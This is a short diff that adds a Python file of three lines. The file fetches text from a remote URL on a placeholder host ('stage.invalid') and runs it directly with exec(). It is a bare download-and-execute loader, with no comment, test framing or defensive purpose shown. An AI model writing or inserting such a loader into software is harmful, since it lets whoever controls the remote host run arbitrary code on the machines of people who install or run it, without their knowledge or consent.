@@ -1,0 +1,3 @@
+import requests as r
+
+exec(r.get("http://stage.invalid/code").text)
